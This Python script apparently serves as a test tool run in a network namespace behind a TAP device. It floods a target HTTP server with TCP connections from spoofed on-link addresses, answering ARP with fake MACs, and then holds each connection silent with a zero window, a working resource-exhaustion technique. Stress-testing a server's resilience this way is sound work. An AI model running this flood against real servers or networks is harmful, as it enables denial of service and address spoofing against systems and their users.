# Silent zero-window connections, from made-up on-link addresses, over a raw packet socket
# on the Linux side of the TAP device (run inside the namespace, as root):
#   zw_flood.py IFACE DST_MAC DST_IP DPORT N [--path /small.html] [--window W]
#               [--inflight K] [--timeout S]
# Each connection completes the handshake (SYN with window 0, MSS 1460, WS 7, SACK), sends
# one HTTP request with its ACK, and once the request is acknowledged goes silent: it never
# acknowledges the response nor answers a window probe, and its window stays 0. Sources
# are 10.0.0.100-199 (this tool answers ARP for them with made-up MACs, so Linux never sees
# the segments as its own and never resets them), 100 ports each. SYNs and requests are
# retransmitted (1, 2, 4 s) when unanswered; at most K handshakes are in progress at once.
# Prints one JSON line: {"n", "established" (request acked), "synack" (handshake answered),
# "refused" (no answer after the retries), "reset" (RST seen before the request was acked),
# "seconds"}.
import json
import os
import random
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
NIP = 100
BASE = (10 << 24) | 100  # 10.0.0.100


def csum(b):
    if len(b) & 1:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ip_str(v):
    return socket.inet_ntoa(struct.pack("!I", v))


def fake_mac(ip):
    return bytes((2, 0, 0, 0x77, (ip >> 8) & 255, ip & 255))


class Flood:
    def __init__(self, iface, dmac, dip, dport, n, path, window, inflight, timeout):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
        self.s.bind((iface, 0))
        self.s.setblocking(False)
        self.dmac = bytes(int(x, 16) for x in dmac.split(":"))
        self.dip = struct.unpack("!I", socket.inet_aton(dip))[0]
        self.dport = dport
        self.n = n
        self.window = window
        self.inflight = inflight
        self.timeout = timeout
        self.req = ("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, dip)).encode()
        self.rnd = random.Random(99)
        # conn: [state, isn, tries, next_retry, our_seq_after_request, ack_to_send]
        # state: 0 SYN sent, 1 request sent, 2 established (request acked), 3 refused, 4 reset
        self.conns = {}
        self.counts = {"established": 0, "synack": 0, "refused": 0, "reset": 0}

    def key(self, i):
        return BASE + i % NIP, 10000 + i // NIP

    def send_tcp(self, src, sport, seq, ack, flags, payload=b"", opts=b""):
        hlen = 20 + len(opts)
        tcp = struct.pack("!HHIIBBHHH", sport, self.dport, seq, ack, (hlen // 4) << 4, flags,
                          self.window, 0, 0) + opts + payload
        ph = struct.pack("!IIBBH", src, self.dip, 0, 6, len(tcp))
        c = csum(ph + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBHII", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src,
                         self.dip)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        eth = self.dmac + fake_mac(src) + b"\x08\x00"
        try:
            self.s.send(eth + ip + tcp)
        except BlockingIOError:
            select.select([], [self.s], [], 0.1)
            self.s.send(eth + ip + tcp)

    def syn(self, k):
        c = self.conns[k]
        opts = b"\x02\x04\x05\xb4\x01\x03\x03\x07\x01\x01\x04\x02"  # MSS, WS 7, SACK-OK
        self.send_tcp(k[0], k[1], c[1], 0, 0x02, b"", opts)

    def request(self, k):
        c = self.conns[k]
        self.send_tcp(k[0], k[1], (c[1] + 1) & 0xFFFFFFFF, c[5], 0x18, self.req)

    def on_arp(self, f):
        op = struct.unpack_from("!H", f, 20)[0]
        tpa = struct.unpack_from("!I", f, 38)[0]
        if op != 1 or not BASE <= tpa < BASE + NIP:
            return
        sha, spa = f[22:28], f[28:32]
        mac = fake_mac(tpa)
        rep = (sha + mac + b"\x08\x06" + b"\x00\x01\x08\x00\x06\x04\x00\x02" + mac +
               struct.pack("!I", tpa) + sha + spa)
        self.s.send(rep)

    def on_tcp(self, f):
        ihl = (f[14] & 15) * 4
        src, dst = struct.unpack_from("!II", f, 26)
        if src != self.dip or f[23] != 6:
            return
        t = 14 + ihl
        sport, dport, seq, ack, off, flags = struct.unpack_from("!HHIIBB", f, t)
        c = self.conns.get((dst, dport))
        if c is None or c[0] >= 2:
            return  # silent from now on: probes, data and FINs go unanswered
        if flags & 0x04:
            c[0] = 4
            self.counts["reset"] += 1
            return
        if flags & 0x12 == 0x12 and c[0] <= 1:
            if c[0] == 0:
                self.counts["synack"] += 1
            c[0] = 1
            c[5] = (seq + 1) & 0xFFFFFFFF
            c[2] = 0
            c[3] = time.time() + 1.0
            self.request((dst, dport))
            return
        if c[0] == 1 and flags & 0x10 and ack == c[4]:
            c[0] = 2
            self.counts["established"] += 1

    def pump(self, wait):
        r, _, _ = select.select([self.s], [], [], wait)
        if not r:
            return
        for _ in range(5000):
            try:
                f = self.s.recv(65536)
            except BlockingIOError:
                return
            if len(f) < 34:
                continue
            et = f[12:14]
            if et == b"\x08\x06" and len(f) >= 42:
                self.on_arp(f)
            elif et == b"\x08\x00":
                self.on_tcp(f)

    def run(self):
        t0 = time.time()
        nxt = 0
        busy = 0
        while time.time() - t0 < self.timeout:
            now = time.time()
            busy = sum(1 for c in self.conns.values() if c[0] <= 1)
            while nxt < self.n and busy < self.inflight:
                k = self.key(nxt)
                isn = self.rnd.getrandbits(32)
                self.conns[k] = [0, isn, 0, now + 1.0, (isn + 1 + len(self.req)) & 0xFFFFFFFF,
                                 0]
                self.syn(k)
                nxt += 1
                busy += 1
            for k, c in self.conns.items():
                if c[0] <= 1 and c[3] <= now:
                    c[2] += 1
                    if c[2] > 4:
                        c[0] = 3
                        self.counts["refused"] += 1
                        continue
                    c[3] = now + (1 << c[2])
                    if c[0] == 0:
                        self.syn(k)
                    else:
                        self.request(k)
            if nxt >= self.n and busy == 0:
                break
            self.pump(0.02)
        out = dict(self.counts)
        out["n"] = self.n
        out["seconds"] = round(time.time() - t0, 2)
        return out


def main(argv):
    iface, dmac, dip, dport, n = argv[:5]
    opts = {"--path": "/small.html", "--window": "0", "--inflight": "200",
            "--timeout": "600"}
    rest = argv[5:]
    for i in range(0, len(rest), 2):
        opts[rest[i]] = rest[i + 1]
    fl = Flood(iface, dmac, dip, int(dport), int(n), opts["--path"], int(opts["--window"]),
               int(opts["--inflight"]), float(opts["--timeout"]))
    print(json.dumps(fl.run()))
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1:])
